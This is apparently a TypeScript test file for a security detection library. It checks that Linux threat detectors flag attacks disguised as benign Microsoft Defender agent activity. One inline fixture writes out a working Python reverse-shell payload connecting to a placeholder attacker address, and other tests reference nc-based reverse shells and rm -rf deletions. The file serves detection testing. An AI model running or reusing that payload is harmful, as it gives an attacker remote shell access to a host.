/**
 * The benign classes of the reference report must never swallow the attack that looks like them:
 * for each look-alike, the attack version fires a Linux threat detector and the benign class stays
 * silent (run together through the real engine).
 */
import type { AnyDetector } from '@tripline/core';
import { type Fixture, loadFixtures, makeEvent, runFixture } from '@tripline/core/testing';
import { describe, expect, it } from 'vitest';
import { detector as destructiveDeletion } from './detectors/destructive-deletion/detector.js';
import { detector as edrAgentRecon } from './detectors/edr-agent-recon/detector.js';
import { detector as edrInventoryScript } from './detectors/edr-inventory-script/detector.js';
import { detector as edrLog4jScan } from './detectors/edr-log4j-scan/detector.js';
import { detector as execProcessReplacement } from './detectors/exec-process-replacement/detector.js';
import { detector as publicRemoteLogon } from './detectors/public-remote-logon/detector.js';
import { detector as rootCronLogon } from './detectors/root-cron-logon/detector.js';
import { detector as searchIndexSegmentDeletion } from './detectors/search-index-segment-deletion/detector.js';
import { detector as suspiciousCommandLine } from './detectors/suspicious-command-line/detector.js';
import { detector as suspiciousScriptContent } from './detectors/suspicious-script-content/detector.js';
import { detector as sysstatCollection } from './detectors/sysstat-collection/detector.js';
import { linuxThreatDetectors } from './linux.js';

const fixtureOf = (detector: string, name: string): Fixture => {
  const all = loadFixtures(new URL(`./detectors/${detector}/fixtures`, import.meta.url));
  return [...all.fires, ...all.ignores].find((f) => f.name === name)!;
};
async function alertsOf(detectors: readonly AnyDetector[], fixture: Fixture) {
  const result = await runFixture(detectors, fixture);
  return (id: string) => result.alerts.filter((a) => a.detectorId === id);
}

describe('Linux attacks are never labelled as their benign look-alike', () => {
  it('exports the five Linux threat detectors', () => {
    expect(linuxThreatDetectors.map((d) => d.meta.id)).toEqual([
      'defender/destructive-deletion',
      'defender/logon-brute-force',
      'defender/public-remote-logon',
      'defender/suspicious-command-line',
      'defender/suspicious-script-content',
    ]);
  });

  it('sysstat-collection: a file named sa1 in /tmp with a reverse shell', async () => {
    const of = await alertsOf(
      [suspiciousScriptContent, sysstatCollection],
      fixtureOf('suspicious-script-content', 'fires.reverse-shell-named-sa1.json'),
    );
    expect(of('defender/suspicious-script-content').map((a) => a.severity)).toEqual(['high']);
    expect(of('defender/sysstat-collection')).toEqual([]);
  });

  it('edr-inventory-script: get_jar_data_list.py run from a home directory by an ordinary user, downloading code', async () => {
    const of = await alertsOf(
      [suspiciousScriptContent, edrInventoryScript],
      fixtureOf('suspicious-script-content', 'fires.downloader-named-get-jar-data-list.json'),
    );
    expect(of('defender/suspicious-script-content').map((a) => a.severity)).toEqual(['high']);
    expect(of('defender/edr-inventory-script')).toEqual([]);
  });

  it('edr-log4j-scan: open_files.py with log4j markers but a reverse shell, run by a user outside the agent', async () => {
    const body = [
      '# log4j_handlersV2 /var/opt/microsoft/mdatp/wdavedr/log4jMitigationApplied',
      'import socket,os,pty',
      's=socket.socket();s.connect(("198.51.100.23",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);pty.spawn("/bin/sh")',
    ].join('\n');
    const event = {
      category: 'AdvancedHunting-DeviceEvents',
      properties: {
        Timestamp: '2025-11-14T02:50:00.1Z',
        DeviceId: 'b7e4c1a9d2f05e3b8c6a7d9e0f1a2b3c4d5e6f70',
        DeviceName: 'web01.contoso-hosting.net',
        ActionType: 'ScriptContent',
        ReportId: 9001,
        FileName: 'open_files.py',
        FolderPath: '/home/alice/open_files.py',
        SHA256: 'cd'.repeat(32),
        InitiatingProcessFileName: 'python3.10',
        InitiatingProcessFolderPath: '/usr/bin/python3.10',
        InitiatingProcessCommandLine: 'python3 /home/alice/open_files.py',
        InitiatingProcessParentFileName: 'bash',
        InitiatingProcessAccountName: 'alice',
        AdditionalFields: JSON.stringify({ ScriptContent: body }),
      },
    };
    makeEvent('DeviceEvents', event.properties); // the row is a valid DeviceEvents row
    const of = await alertsOf([suspiciousScriptContent, edrLog4jScan], {
      name: 'inline',
      description: 'inline look-alike',
      records: [event],
    });
    expect(of('defender/suspicious-script-content').map((a) => a.severity)).toEqual(['high']);
    expect(of('defender/edr-log4j-scan')).toEqual([]);
  });

  it('search-index-segment-deletion: Lucene files deleted by rm -rf from bash', async () => {
    const of = await alertsOf(
      [destructiveDeletion, searchIndexSegmentDeletion],
      fixtureOf('destructive-deletion', 'fires.rm-rf-indexer.json'),
    );
    expect(of('defender/destructive-deletion').map((a) => a.severity)).toEqual(['high']);
    expect(of('defender/search-index-segment-deletion')).toEqual([]);
  });

  it("…and the indexer's own merges stay the benign class, not destruction", async () => {
    const of = await alertsOf(
      [destructiveDeletion, searchIndexSegmentDeletion],
      fixtureOf('destructive-deletion', 'ignores.lucene-merge-by-jvm.json'),
    );
    expect(of('defender/destructive-deletion')).toEqual([]);
    expect(of('defender/search-index-segment-deletion')).toHaveLength(1);
  });

  it('root-cron-logon: a root logon through sshd from a public address', async () => {
    const of = await alertsOf(
      [publicRemoteLogon, rootCronLogon],
      fixtureOf('public-remote-logon', 'fires.root-from-public.json'),
    );
    expect(of('defender/public-remote-logon').map((a) => a.severity)).toEqual(['high']);
    expect(of('defender/root-cron-logon')).toEqual([]);
  });

  it("exec-process-replacement / edr-agent-recon: dash exec'ing nc -e /bin/sh is a high reverse shell", async () => {
    const of = await alertsOf(
      [suspiciousCommandLine, execProcessReplacement, edrAgentRecon],
      fixtureOf('suspicious-command-line', 'fires.dash-exec-nc.json'),
    );
    expect(of('defender/suspicious-command-line').map((a) => [a.key, a.severity])).toEqual([['reverse-shell', 'high']]);
    expect(of('defender/edr-agent-recon')).toEqual([]);
    for (const a of of('defender/exec-process-replacement')) expect(a.severity).toBe('high');
  });

  it("the Defender agent's own exec (dash → lsof) raises none of the Linux threat detectors", async () => {
    const of = await alertsOf(
      [...linuxThreatDetectors],
      fixtureOf('suspicious-command-line', 'ignores.defender-agent-scan.json'),
    );
    for (const d of linuxThreatDetectors) expect(of(d.meta.id)).toEqual([]);
  });
});
